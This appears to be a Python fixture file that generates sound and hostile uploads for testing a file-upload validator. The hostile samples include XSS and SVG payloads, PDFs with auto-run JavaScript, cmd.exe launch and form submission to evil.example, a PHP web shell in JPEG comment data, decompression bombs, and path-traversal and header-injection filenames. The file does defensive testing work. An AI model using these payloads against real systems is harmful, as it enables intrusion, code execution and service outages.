"""Files to upload: sound ones, and every trick that we know of. All are made here, none is stored."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(2000)
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf(change: Callable[[pikepdf.Pdf], object] = lambda _pdf: None, *, pages: int = 1, **saving: object) -> bytes:
    """Return a PDF with some text, after a change."""
    target = io.BytesIO()
    with pikepdf.new() as made:
        for number in range(pages):
            page = made.add_blank_page()
            page.obj.Contents = made.make_stream(f"BT /F1 24 Tf 72 720 Td (Page {number}) Tj ET".encode())
        change(made)
        made.save(target, **saving)
    return target.getvalue()


def picture(image_format: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **saving: object) -> bytes:
    """Return a noisy picture."""
    target = io.BytesIO()
    plain = Image.new(mode, size)
    noise = random.Random(5).randbytes(len(plain.tobytes()))
    made = plain if mode == "P" else Image.frombytes(mode, size, noise)
    made.save(target, image_format, **saving)
    return target.getvalue()


def archive(*names: str) -> bytes:
    """Return a ZIP with these files."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as made:
        for name in names or ("a.txt",):
            made.writestr(name, HTML)
    return target.getvalue()


def office(kind: str) -> bytes:
    """Return what looks like a document of an office programme."""
    return archive("[Content_Types].xml", "_rels/.rels", f"{kind}/document.xml")


def png_chunk(name: bytes, content: bytes) -> bytes:
    """Return one chunk of a PNG."""
    return struct.pack("!I", len(content)) + name + content + struct.pack("!I", zlib.crc32(name + content))


def png_bomb(width: int = 50_000, height: int = 50_000) -> bytes:
    """Return a PNG of a few kilobytes that wants gigabytes."""
    header = png_chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + png_chunk(b"IDAT", zlib.compress(bytes(1_000_000))) + png_chunk(b"IEND", b"")


def png_text_bomb() -> bytes:
    """Return a PNG with a compressed comment that swells."""
    comment = png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(80_000_000)))
    sound = picture("PNG")
    return sound[:33] + comment + sound[33:]


def acting(action: Dictionary) -> Callable[[pikepdf.Pdf], None]:
    """Return a change that makes a PDF act when it is opened, on a click and when a page is turned."""

    def change(made: pikepdf.Pdf) -> None:
        held = made.make_indirect(action)
        made.Root.OpenAction = held
        made.pages[0].obj.AA = Dictionary(O=held)
        link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=held, AA=Dictionary(E=held))
        made.pages[0].obj.Annots = Array([made.make_indirect(link)])

    return change


def script() -> Dictionary:
    """Return the action that runs a script."""
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('planted')"))


def named_script(made: pikepdf.Pdf) -> None:
    """Plant a script in the names of the document."""
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), made.make_indirect(script())])))


def hidden_script(made: pikepdf.Pdf) -> None:
    """Plant a script where no reader looks for one, but a careless one may find it."""
    made.pages[0].obj.Hidden = Dictionary(Deeper=Array([Dictionary(Deepest=script())]))


def attachment(made: pikepdf.Pdf) -> None:
    """Embed a programme."""
    made.attachments["planted.exe"] = EXE


def form_script(made: pikepdf.Pdf) -> None:
    """Plant an XFA form and a field that calculates."""
    field = made.make_indirect(Dictionary(T=String("x"), FT=Name.Tx, AA=Dictionary(K=script())))
    made.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=made.make_stream(b"<xdp><script/></xdp>"))


def encrypted(user: str, owner: str = "owner") -> bytes:
    """Return a PDF under a password."""
    return pdf(encryption=pikepdf.Encryption(user=user, owner=owner))


SOUND: dict[str, tuple[str, bytes]] = {
    "pdf": ("evidence.pdf", pdf()),
    "pdf with capital extension": ("EVIDENCE.PDF", pdf()),
    "pdf with line ends after its end": ("evidence.pdf", pdf() + b"\r\n\r\n\0"),
    "pdf of many pages": ("evidence.pdf", pdf(pages=40)),
    "linearised pdf": ("evidence.pdf", pdf(pages=3, linearize=True)),
    "jpeg": ("photo.jpg", picture("JPEG")),
    "jpeg with long extension": ("photo.jpeg", picture("JPEG")),
    "progressive jpeg": ("photo.jpg", picture("JPEG", progressive=True)),
    "grey jpeg": ("photo.jpg", picture("JPEG", mode="L")),
    "cmyk jpeg": ("photo.jpg", picture("JPEG", mode="CMYK")),
    "jpeg with bytes of the camera behind it": ("photo.jpg", picture("JPEG") + b"SEFT\x00\x01" * 20),
    "png": ("scan.png", picture("PNG")),
    "transparent png": ("scan.png", picture("PNG", mode="RGBA")),
    "png with palette": ("scan.png", picture("PNG", mode="P")),
    "black and white png": ("scan.png", picture("PNG", mode="1")),
    "deep png": ("scan.png", picture("PNG", mode="I;16")),
}

SANITISED: dict[str, bytes] = {
    "script on opening": pdf(acting(script())),
    "script after another action": pdf(acting(Dictionary(S=Name.GoTo, D=String("x"), Next=script()))),
    "named script": pdf(named_script),
    "script in a form": pdf(form_script),
    "start of a programme": pdf(acting(Dictionary(S=Name.Launch, F=String("cmd.exe")))),
    "sending a form": pdf(acting(Dictionary(S=Name.SubmitForm, F=String("http://evil.example/")))),
    "another document": pdf(acting(Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\x")))),
    "importing": pdf(acting(Dictionary(S=Name.ImportData, F=String("/etc/passwd")))),
    "an address": pdf(acting(Dictionary(S=Name.URI, URI=String("http://evil.example/")))),
    "an attached programme": pdf(attachment),
}

REFUSED_AT_ONCE: dict[str, tuple[str, bytes]] = {
    "programme": ("setup.exe", EXE),
    "programme with two extensions": ("evidence.pdf.exe", EXE),
    "html": ("page.html", HTML),
    "svg": ("drawing.svg", SVG),
    "zip": ("files.zip", archive()),
    "docx": ("letter.docx", office("word")),
    "xlsm": ("sheet.xlsm", office("xl")),
    "gif": ("moving.gif", picture("GIF", mode="P")),
    "tiff": ("scan.tiff", picture("TIFF")),
    "webp": ("photo.webp", picture("WEBP")),
    "no extension": ("evidence", pdf()),
    "turned name": ("evidence\u202efdp.exe", EXE),
    "extension cut by a zero": ("evidence.exe\0.txt", EXE),
    "empty": ("evidence.pdf", b""),
    "eleven megabytes": ("evidence.pdf", pdf() + bytes(11 * 1024 * 1024)),
}

REFUSED_BY_CHECK: dict[str, tuple[str, bytes]] = {
    "programme named pdf": ("evidence.pdf", EXE),
    "html named pdf": ("evidence.pdf", HTML),
    "html named png": ("scan.png", HTML),
    "svg named png": ("scan.png", SVG),
    "zip named pdf": ("evidence.pdf", archive()),
    "docx named pdf": ("evidence.pdf", office("word")),
    "text named jpg": ("photo.jpg", b"hello"),
    "png named jpg": ("photo.jpg", picture("PNG")),
    "jpeg named png": ("scan.png", picture("JPEG")),
    "jpeg named pdf": ("evidence.pdf", picture("JPEG")),
    "pdf named jpg": ("photo.jpg", pdf()),
    "gif named png": ("scan.png", picture("GIF", mode="P")),
    "pdf and zip": ("evidence.pdf", pdf() + archive()),
    "zip before pdf": ("evidence.pdf", archive() + pdf()),
    "zip around pdf": ("evidence.pdf", archive("a") + b"%PDF-" + pdf()),
    "pdf and html": ("evidence.pdf", pdf() + HTML),
    "html before pdf": ("evidence.pdf", HTML + pdf()),
    "png and zip": ("scan.png", picture("PNG") + archive()),
    "png and html": ("scan.png", picture("PNG") + HTML),
    "png with html in a comment": (
        "scan.png",
        picture("PNG")[:33] + png_chunk(b"tEXt", b"x\0" + HTML) + picture("PNG")[33:],
    ),
    "png and pdf": ("scan.png", picture("PNG") + pdf()),
    "jpeg and zip": ("photo.jpg", picture("JPEG") + archive()),
    "jpeg and html": ("photo.jpg", picture("JPEG") + HTML),
    "jpeg with html in a comment": ("photo.jpg", picture("JPEG", comment=HTML)),
    "jpeg with php in its exif": ("photo.jpg", picture("JPEG", comment=b"<?php system($_GET[0]);")),
    "truncated jpeg": ("photo.jpg", picture("JPEG", size=(400, 300))[:20_000]),
    "truncated png": ("scan.png", picture("PNG", size=(400, 300))[:20_000]),
    "truncated pdf": ("evidence.pdf", pdf(pages=20)[:1_500]),
    "first bytes of a jpeg": ("photo.jpg", b"\xff\xd8\xff\xe0" + bytes(500)),
    "first bytes of a pdf": ("evidence.pdf", b"%PDF-1.7\n%%EOF\n"),
    "damaged png": ("scan.png", picture("PNG").replace(b"IDAT", b"IDAX", 1)),
    "png bomb": ("scan.png", png_bomb()),
    "png just above the limit": ("scan.png", png_bomb(10_000, 6_001)),
    "png with a swelling comment": ("scan.png", png_text_bomb()),
    "pdf without a page": ("evidence.pdf", pdf(pages=0)),
    "pdf under a password": ("evidence.pdf", encrypted("secret")),
    "pdf that may not be changed": ("evidence.pdf", encrypted("")),
    "pdf with a script where no reader looks": ("evidence.pdf", pdf(hidden_script)),
    "pdf of too many pages": ("evidence.pdf", pdf(pages=501)),
}

NAMES: dict[str, str] = {
    "../../etc/passwd.pdf": "passwd.pdf",
    "..\\..\\windows\\x.pdf": "x.pdf",
    "/etc/passwd.pdf": "passwd.pdf",
    "C:\\x.pdf": "x.pdf",
    "a\x00b.pdf": "ab.pdf",
    "a\r\nSet-Cookie: x=1.pdf": "aSet-Cookie_ x=1.pdf",
    "evil\u202efdp.pdf": "evilfdp.pdf",
    "\u200bzero\ufeffwidth.pdf": "zerowidth.pdf",
    'quo"te.pdf': "quo_te.pdf",
    "semi;colon.pdf": "semi_colon.pdf",
    "<b>bold<b>.pdf": "_b_bold_b_.pdf",
    "x" * 300 + ".pdf": "x" * 116 + ".pdf",
    "été à Łódź.PDF": "été à Łódź.pdf",
    "e\u0301te\u0301.pdf": "été.pdf",
    "日本語.pdf": "日本語.pdf",
    "  spaces   and dots .. .pdf": "spaces and dots.pdf",
    "lone\ud800surrogate.pdf": "lone_surrogate.pdf",
    "a%0d%0ab.pdf": "a_0d_0ab.pdf",
    "...pdf": "file.pdf",
    ".pdf": "file.pdf",
    "?.pdf": "_.pdf",
    ". .pdf": "file.pdf",
    "two.dots.pdf": "two.dots.pdf",
}
